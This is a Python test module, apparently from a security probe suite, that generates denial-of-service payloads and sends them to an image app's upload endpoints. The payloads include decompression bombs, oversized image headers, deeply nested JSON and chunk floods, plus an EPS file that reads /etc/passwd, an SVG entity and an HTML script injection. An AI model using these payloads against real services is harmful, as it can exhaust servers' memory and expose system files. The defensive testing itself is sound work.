"""Files that are larger inside than outside: giant dimensions, bombs of pixels, of texts, of chunks and of frames.

Got through: more memory than a picture of the largest size that is taken needs, an answer that comes too late, or a
fault.
"""

import io
import struct
import zlib
from collections.abc import Callable, Iterator

from PIL import Image

from lit.probes.addresses import UPLOADS
from lit.probes.target import ATTACKER, BOUND, MEMORY, Probe, Target

WIDE = 13_000  # pixels a side: just below what Pillow itself calls a bomb


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(
    width: int = 8,
    height: int = 8,
    depth: int = 8,
    colour: int = 6,
    texts: list[tuple[bytes, bytes]] | None = None,
    more: bytes = b"",
    rows: int | None = None,
    last: list[tuple[bytes, bytes]] | None = None,
) -> bytes:
    """A PNG of nothing. texts, last: chunks before its pixels, and behind.  rows: how many of them are there, all where
    None."""
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour]
    row = b"\0" * (1 + (width * depth * channels + 7) // 8)
    packing = zlib.compressobj(1)
    data = b"".join(packing.compress(row) for _ in range(height if rows is None else rows)) + packing.flush()
    ending = b"".join(chunk(kind, content) for kind, content in last or [])
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    said = b"".join(chunk(kind, content) for kind, content in texts or [])
    return b"\x89PNG\r\n\x1a\n" + head + said + more + chunk(b"IDAT", data) + ending + chunk(b"IEND", b"")


def text(kind: bytes, keyword: bytes, content: bytes) -> tuple[bytes, bytes]:
    """A text chunk; zTXt and iTXt packed."""
    if kind == b"tEXt":
        return kind, keyword + b"\0" + content
    packed = zlib.compress(content, 9)
    return kind, keyword + (b"\0\0" if kind == b"zTXt" else b"\0\1\0\0\0") + packed


def files() -> dict[str, Callable[[], bytes]]:
    """Names, and what makes each: they are made when they are sent."""
    lit = text(b"tEXt", b"lit", b'{"format": 1}')
    huge = b"[" * 50_000_000
    deep = b"[" * 900_000
    return {
        "PNG, 65,535 pixels a side": lambda: png(65535, 65535, rows=1),
        "PNG, 2^31 - 1 pixels wide": lambda: png(8, 8)[:16] + struct.pack(">II", 2**31 - 1, 1) + png(8, 8)[24:],
        "PNG, 2^31 - 1 pixels a side, whole head": lambda: _headed(2**31 - 1, 2**31 - 1),
        "PNG, 0 pixels": lambda: _headed(0, 0),
        "PNG of 13,000 pixels a side": lambda: png(WIDE, WIDE, colour=2),
        "the same with settings": lambda: png(WIDE, WIDE, colour=2, texts=[lit]),
        "the same with settings behind it": lambda: png(WIDE, WIDE, colour=2, last=[lit]),
        "PNG of one bit, 13,000 pixels a side, with A1111's words": lambda: png(
            WIDE, WIDE, depth=1, colour=0, texts=[text(b"tEXt", b"parameters", b"a fox\nSteps: 20, Seed: 1")]
        ),
        "PNG, 16 bits a channel, 4,096 pixels a side": lambda: png(4096, 4096, depth=16),
        "PNG, 100,000 pixels in one row": lambda: png(100_000, 1),
        "zTXt of 50 MB": lambda: png(texts=[text(b"zTXt", b"lit", huge)]),
        "iTXt of 50 MB": lambda: png(texts=[text(b"iTXt", b"lit", huge)]),
        "iTXt of 50 MB under A1111's name": lambda: png(texts=[text(b"iTXt", b"parameters", huge)]),
        "iTXt of 50 MB under ComfyUI's name": lambda: png(texts=[text(b"iTXt", b"prompt", huge)]),
        "100 iTXt of 1 MB": lambda: png(texts=[text(b"iTXt", b"k%d" % i, b" " * 1_000_000) for i in range(100)]),
        "60 texts of 900 kB with settings": lambda: png(
            texts=[lit, *(text(b"zTXt", b"k%d" % i, b" " * 900_000) for i in range(60))]
        ),
        "JSON, 900,000 deep": lambda: png(texts=[text(b"tEXt", b"lit", deep)]),
        "JSON, 900,000 deep, of ComfyUI": lambda: png(texts=[text(b"zTXt", b"prompt", deep)]),
        "a number of 900,000 digits": lambda: png(texts=[text(b"zTXt", b"lit", b"9" * 900_000)]),
        "a ring of ComfyUI's nodes": lambda: png(texts=[text(b"tEXt", b"prompt", _ring())]),
        "1,000,000 chunks": lambda: png(more=chunk(b"tEXt", b"") * 1_000_000),
        "1,000,000 chunks of no kind, with settings": lambda: png(texts=[lit], more=chunk(b"prVt", b"") * 1_000_000),
        "a chunk of 2^31 - 1 bytes": lambda: png(more=struct.pack(">I", 2**31 - 1) + b"tEXt"),
        "a chunk of 2^32 - 1 bytes": lambda: png(more=struct.pack(">I", 2**32 - 1) + b"iTXt"),
        "a colour profile of 50 MB": lambda: png(more=chunk(b"iCCP", b"p\0\0" + zlib.compress(huge, 9))),
        "a picture inside the picture": lambda: png(
            texts=[lit], more=chunk(b"ltIm", png(WIDE, WIDE, depth=1, colour=0))
        ),
        "pixels that go on after the last row": lambda: _headed(8, 8, zlib.compress(huge, 9)),
        "APNG of 2^31 - 1 frames": lambda: png(more=chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))),
        "APNG of 100,000 frames": lambda: _apng(100_000),
        "APNG, a frame of 65,535 pixels": lambda: png(
            more=chunk(b"acTL", struct.pack(">II", 2, 0))
            + chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 65535, 65535, 0, 0, 1, 1, 0, 0))
        ),
        "WebP, 16,777,216 pixels a side": lambda: _webp(b"VP8X", b"\x10\0\0\0" + b"\xff" * 6),
        "WebP, lossless, 16,384 pixels a side": lambda: _webp(b"VP8L", b"\x2f\xff\xff\xff\x0f" + b"\0" * 64),
        "WebP, lossy, 16,383 pixels a side": lambda: _webp(
            b"VP8 ", b"\x10\0\0\x9d\x01\x2a\xff\x3f\xff\x3f" + b"\0" * 64
        ),
        "WebP that moves, 65,535 pixels a side": lambda: _webp(b"VP8X", b"\x02\0\0\0" + b"\xff\xff\0" * 2),
        "GIF, 65,535 pixels a side": lambda: _gif(65535),
        "GIF of 50,000 frames": lambda: _gif(8, 50_000),
        "JPEG, 65,500 pixels a side": lambda: _jpeg(65500),
        "JPEG of 2,000 scans": _scans,
        "BMP, 30,000 pixels a side": lambda: _bmp(30_000, 30_000),
        "BMP, -2^31 pixels": lambda: _bmp(2**31 - 1, -(2**31)),
        "SVG of entities": lambda: b'<!DOCTYPE a [<!ENTITY b "c">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
        "EPS": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99999 99999\n(/etc/passwd) run\n",
        "TIFF": lambda: b"II*\0\x08\0\0\0\xff\xff" + b"\xff" * 100,
        "ZIP": lambda: b"PK\x03\x04" + b"\0" * 100,
        "HTML": lambda: b"<html><script>alert(1)</script>",
        "nothing": lambda: b"",
        "cut off": lambda: png(64, 64)[:60],
    }


def probes(target: Target) -> Iterator[Probe]:
    for name, make in files().items():
        data = make()
        for address in UPLOADS:
            yield Probe(f"{name} to /{address}", lambda address=address, data=data: _sent(target, address, data))
    for size in ("1", "0", "-1", "99999", "9999999", "9" * 30, "1e9", "nan"):
        yield Probe(f"an icon of {size}", lambda size=size: _within(target, lambda: target.ask(f"pwa_icon/{size}")))


def _sent(target, address, data):
    kind = "image/png" if address in ("library/inspect", "drawings/settings") else "application/octet-stream"
    headers = {"Content-Type": kind, "Lit-Visitor": ATTACKER}
    return _within(target, lambda: target.ask(f"{address}?name=a.png", body=data, headers=headers))


def _within(target, ask):
    answers = []
    grown = target.grown(lambda: answers.append(ask()))
    if grown > MEMORY:
        return f"{grown / 2**20:,.0f} MB of memory"
    if answers[0].status == 0 and answers[0].seconds <= BOUND:  # it may close a connection, but has to live
        return target.lives()
    return target.wrong(answers[0])


def _headed(width, height, pixels=b""):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _ring():
    nodes = ", ".join(
        f'"{i}": {{"inputs": {{"text": ["{(i + 1) % 5000}", 0], "positive": ["0", 0]}}}}' for i in range(5000)
    )
    return f"{{{nodes}}}".encode()


def _apng(count):
    frame = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 1, 1, 0, 0, 1, 100, 0, 0))
    return png(more=chunk(b"acTL", struct.pack(">II", count, 0)) + frame * count)


def _webp(kind, data):
    inside = b"WEBP" + kind + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(inside)) + inside


def _gif(side, frames=1):
    frame = b"\x2c" + struct.pack("<HHHH", 0, 0, side, side) + b"\0\x02\x02\x4c\x01\0"
    return b"GIF89a" + struct.pack("<HH", side, side) + b"\x80\0\0" + b"\0" * 6 + frame * frames + b"\x3b"


def _jpeg(side):
    file = io.BytesIO()
    Image.new("L", (8, 8)).save(file, "JPEG")
    data = bytearray(file.getvalue())
    place = data.index(b"\xff\xc0") + 5
    data[place : place + 4] = struct.pack(">HH", side, side)
    return bytes(data)


def _scans():
    """A progressive JPEG whose last scan comes again and again: each is a pass over all its pixels."""
    file = io.BytesIO()
    Image.new("L", (4000, 4000)).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * min(2000, 15_000_000 // len(data[last:-2])) + b"\xff\xd9"


def _bmp(width, height):
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 32, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + head + b"\0" * 64
